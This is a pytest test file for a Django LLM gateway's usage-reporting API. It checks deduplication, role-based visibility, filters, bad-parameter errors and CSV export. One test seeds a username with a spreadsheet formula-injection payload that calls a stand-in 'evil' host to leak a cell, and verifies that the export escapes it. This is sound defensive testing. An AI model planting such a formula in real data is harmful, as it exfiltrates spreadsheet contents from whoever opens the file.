"""Usage per call (issue 13): one row per request id, aggregated by user, group, token or model over
a period, as JSON or spreadsheet-safe CSV; privileged roles read everyone's, anyone else only their
own rows (also when grouping by group or token, also with a model-restricted token)."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import timedelta

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth.models import Group
from django.db import connections
from django.utils import timezone
from rest_framework.test import APIClient

from apps.gateway.models import LLMUsage
from apps.gateway.services import arecord_usage, record_usage
from tests.conftest import grant, make_user
from tests.factories import ModelVersionFactory, token_for
from tests.security.sessions import session_api

pytestmark = pytest.mark.django_db
URL = "/api/v1/usage/"


def use(user, model, prompt, completion, *, token=None, rid=None, at=None, username=None):
    return record_usage(
        request_id=rid or f"r-{LLMUsage.objects.count()}-{user.pk}",
        user_id=user.pk,
        username=username or user.username,
        token_id=token.pk if token else None,
        model_id=model.pk,
        model_name=model.name,
        model_version=1,
        prompt_tokens=prompt,
        completion_tokens=completion,
        ttft_ms=12.5,
        duration_ms=300,
        finish_reason="stop",
        at=at,
    )


@pytest.fixture
def population(plain_user, staff_user):
    chat, other = ModelVersionFactory(model_name="chat").model, ModelVersionFactory(model_name="other").model
    bob = make_user("bob", "analyst")
    ward = Group.objects.create(name="ward-4")
    ward.user_set.add(plain_user, bob)
    token_for(plain_user, name="laptop")
    laptop = plain_user.api_tokens.get(name="laptop")
    use(plain_user, chat, 10, 5, token=laptop)
    use(plain_user, other, 1, 1, token=laptop)
    use(bob, chat, 100, 50)
    use(bob, chat, 7, 3, at=timezone.now() - timedelta(days=40))
    return {"chat": chat, "other": other, "bob": bob, "laptop": laptop}


def rows(client, **params):
    r = client.get(URL, params)
    assert r.status_code == 200, r.content
    return r.json()


def test_a_request_id_is_recorded_once(plain_user):
    chat = ModelVersionFactory(model_name="chat").model
    assert use(plain_user, chat, 3, 4, rid="same") is True
    assert use(plain_user, chat, 30, 40, rid="same") is False
    assert LLMUsage.objects.get().total_tokens == 7


@pytest.mark.django_db(transaction=True)
def test_the_async_twin_writes_the_same_row(plain_user):
    chat = ModelVersionFactory(model_name="chat").model
    written = asyncio.run(
        arecord_usage(
            request_id="async-1",
            user_id=plain_user.pk,
            username="alice",
            token_id=None,
            model_id=chat.pk,
            model_name="chat",
            model_version=1,
            prompt_tokens=5,
            completion_tokens=6,
            ttft_ms=None,
            duration_ms=10,
            finish_reason="length",
            status="cancelled",
        )
    )
    asyncio.run(sync_to_async(connections.close_all, thread_sensitive=True)())  # the worker thread's connection
    assert written and LLMUsage.objects.get(request_id="async-1").status == "cancelled"


def test_privileged_roles_read_everyones_usage_by_user(population, staff_user, officer_user, auditor_user):
    for who in (staff_user, officer_user, auditor_user):
        got = {r["name"]: (r["calls"], r["total_tokens"]) for r in rows(session_api(who), group_by="user")}
        assert got == {"alice": (2, 17), "bob": (2, 160)}


def test_an_analyst_reads_only_their_own_rows_however_grouped(population, plain_user):
    api = session_api(plain_user)
    assert [(r["name"], r["total_tokens"]) for r in rows(api, group_by="user")] == [("alice", 17)]
    # grouping by group does not reach bob's rows in the same group
    assert [(r["name"], r["total_tokens"]) for r in rows(api, group_by="group")] == [("ward-4", 17)]
    assert [(r["name"], r["calls"]) for r in rows(api, group_by="token")] == [("laptop", 2)]
    assert rows(api, group_by="model", model="chat") == [
        {
            "model": population["chat"].pk,
            "name": "chat",
            "calls": 1,
            "prompt_tokens": 10,
            "completion_tokens": 5,
            "total_tokens": 15,
        }
    ]


def test_a_guest_sees_nothing_and_anonymous_is_refused(population, guest_user):
    assert rows(session_api(guest_user), group_by="user") == []
    assert APIClient().get(URL).status_code == 401


def test_period_and_model_filters(population, staff_user):
    api = session_api(staff_user)
    since = (timezone.now() - timedelta(days=30)).isoformat()
    recent = {r["name"]: r["total_tokens"] for r in rows(api, group_by="user", since=since)}
    old = {r["name"]: r["total_tokens"] for r in rows(api, group_by="user", until=since)}
    assert recent == {"alice": 17, "bob": 150} and old == {"bob": 10}
    assert {r["name"] for r in rows(api, group_by="model", model="other")} == {"other"}


def test_a_model_restricted_token_sees_its_models_usage_only(population, staff_user):
    token = token_for(staff_user, scopes=["read"], model_ids=[population["other"].pk])
    api = APIClient(HTTP_AUTHORIZATION=f"Bearer {token}")
    assert [r["name"] for r in rows(api, group_by="model")] == ["other"]


@pytest.mark.parametrize(
    ("params", "field"),
    [({"group_by": "department"}, "group_by"), ({"since": "yesterday"}, "since")],
)
def test_bad_parameters_are_400(population, staff_user, params, field):
    r = session_api(staff_user).get(URL, params)
    assert r.status_code == 400 and field in str(r.json())


def test_until_before_since_is_400(population, staff_user):
    now = timezone.now()
    r = session_api(staff_user).get(URL, {"since": now.isoformat(), "until": (now - timedelta(days=1)).isoformat()})
    assert r.status_code == 400


def test_csv_is_spreadsheet_safe(staff_user):
    chat = ModelVersionFactory(model_name="chat").model
    evil = make_user("mallory")
    use(evil, chat, 1, 2, username='=HYPERLINK("https://evil/?"&A1)')

    r = session_api(staff_user).get(URL, {"group_by": "user", "format": "csv"})

    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(r.content.decode())))
    assert table[0] == ["user", "name", "calls", "prompt_tokens", "completion_tokens", "total_tokens"]
    assert table[1][1] == '\'=HYPERLINK("https://evil/?"&A1)'
    assert table[1][2:] == ["1", "1", "2", "3"]


def test_an_analyst_with_a_grant_still_sees_only_their_usage_of_that_model(population, plain_user):
    grant(plain_user, population["chat"])
    got = rows(session_api(plain_user), group_by="user", model="chat")
    assert [(r["name"], r["total_tokens"]) for r in got] == [("alice", 15)]
